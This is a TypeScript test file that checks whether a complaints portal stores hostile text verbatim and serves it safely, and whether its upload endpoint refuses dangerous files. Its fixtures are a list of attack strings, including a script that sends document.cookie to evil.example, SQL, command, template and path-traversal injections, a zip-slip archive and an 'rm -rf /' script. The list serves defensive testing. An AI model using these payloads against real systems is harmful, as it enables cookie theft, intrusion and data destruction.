import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type World, openWorld } from '#test/app.ts'
import { begin, part } from '#test/resumable.ts'
import { got } from '#test/steps.ts'
import { PNG } from '#test/story.ts'

let w: World
beforeAll(async () => { w = await openWorld({}, { puzzleBase: 1 }) })
afterAll(() => w.close())

const TEXTS = [
  '<script>fetch("//evil.example/"+document.cookie)</script>', '"><img src=x onerror=hit(1)>', 'javascript:hit(2)', '<svg onload=hit(3)>', '{{constructor.constructor("hit(4)")()}}', `$${'{7*7}'}<%= 7*7 %>#{7*7}`, "'; drop table complaint.complaint; --", "1' or '1'='1",
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '$(id)`id`|id;id&&id', '*)(uid=*))(|(uid=*', '{"$gt":""}', '=cmd|\'/c calc\'!A0', '＝1＋1', 'a\r\nSet-Cookie: x=1', '\u202Ereversed\u2066', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', '👩‍👩‍👧‍👦🏳️‍🌈', '\u{1F468}\u200D', '\uFEFF', '田中さんにあげて下さい', 'ﷺ', '０１２', 'null', 'undefined', '__proto__', 'constructor', 'NaN', '1e309', '<!--#exec cmd="/bin/ls"-->', '%00%0d%0a', 'x'.repeat(19_000),
]

const from = (n: number) => ({ 'x-forwarded-for': `198.18.7.${n}` })

describe('hostile words', () => {
  test('come through the portal as they are, byte for byte', async () => {
    for (const [n, text] of TEXTS.entries()) {
      const told = await got(w.visitor.post<any>('/portal/complaints', { place: 'S01', name: text.slice(0, 60), phone: null, text, wants: text.slice(0, 3_000), locale: 'en' }, from(n)), 201)
      const seen = await w.visitor.get<any>(`/portal/complaints/${told.number}`, { 'x-case-code': told.code, ...from(n) })
      expect(String(seen.headers['content-type'])).toMatch(/^application\/json/)
      expect(seen.headers['x-content-type-options']).toBe('nosniff')
      expect(seen.body.points[0].text).toBe(text)
    }
  }, 60_000)

  test('that no database can hold are refused by name, in the reader’s language, and nothing of them is kept', async () => {
    const before = (await got(w.admin.get<any>('/complaints/count'))).count
    for (const text of ['a\u0000b', '\uD800']) {
      for (const [language, words] of [['zh-CN', /[一-鿿]/], ['zh-Hant', /[一-鿿]/], ['en', /[a-z]{3}/]] as const) {
        const answer = await w.visitor.post<any>('/portal/complaints', { place: 'S01', name: '客人', phone: null, text, locale: 'zh-CN' }, { ...from(99), 'accept-language': language })
        expect(answer).toMatchObject({ status: 422, body: { errors: [{ pointer: '#/text', detail: expect.stringMatching(words) }] } })
      }
    }
    expect((await got(w.admin.get<any>('/complaints/count'))).count).toBe(before)
  })

  test('as a code, a key, a place, a proof, they open nothing and break nothing', async () => {
    for (const [n, text] of TEXTS.filter((t) => /^[\x20-\x7e]{1,60}$/.test(t)).entries()) {
      const answers = await Promise.all([
        w.visitor.get<any>(`/portal/complaints/${encodeURIComponent(text)}`, { 'x-case-code': text, ...from(n) }), w.visitor.get<any>(`/portal?place=${encodeURIComponent(text)}&card=${encodeURIComponent(text)}`), w.visitor.get<any>(`/portal/manifest?place=${encodeURIComponent(text)}`),
        w.visitor.get<any>(`/portal/uploads/${encodeURIComponent(text)}`, { 'x-upload-key': text }), w.visitor.post<any>('/portal/codes', { token: text }, { ...from(n), 'x-proof': text }), w.visitor.post<any>('/portal/uploads', { name: text, bytes: 1, place: text }, from(n)),
      ])
      expect(answers.map((a) => a.status).filter((status) => ![200, 201, 404, 422].includes(status))).toEqual([])
    }
  }, 60_000)
})

describe('hostile files in parts', () => {
  const send = async (name: string, bytes: Buffer) => {
    const upload = await begin(w.visitor, '/portal/uploads', name, bytes.length)
    return part(w.visitor, '/portal/uploads', upload, 0, bytes)
  }
  const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(26), Buffer.from('../../../../tmp/evil')])

  test('of kinds that run or unpack are refused with their name', async () => {
    const bad: readonly (readonly [string, Buffer])[] = [
      ['photo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>hit()</script></svg>')], ['发票.png', Buffer.from('<html><script>hit()</script></html>')], ['a.zip', ZIP], ['run.exe', Buffer.from(`MZ${'\0'.repeat(200)}`, 'latin1')], ['a.txt', Buffer.from('#!/bin/sh\nrm -rf /')], ['a.html', Buffer.from('<!doctype html>')], ['a.pdf.js', Buffer.from('%PDF-1.7\n')],
    ]
    for (const [name, bytes] of bad) expect({ name, ...(await send(name, bytes)) }).toMatchObject({ name, status: 415, body: { title: expect.stringContaining(name), errors: [{ pointer: '#/file' }] } })
  })

  test('under names that mean something elsewhere are called by what is left of the name', async () => {
    for (const [given, kept] of [['../../etc/passwd.png', 'passwd.png'], ['C:\\Windows\\a.png', 'a.png'], ['<img src=x onerror=hit()>.png', '<img src=x onerror=hit()>.png'], ['a\r\nSet-Cookie: b.png', 'aSet-Cookie: b.png'], ['\u202Egnp.exe.png', 'gnp.exe.png']] as const) {
      expect(await send(given, PNG)).toMatchObject({ status: 200, body: { file: { name: kept, mediaType: 'image/png' } } })
    }
  })
})
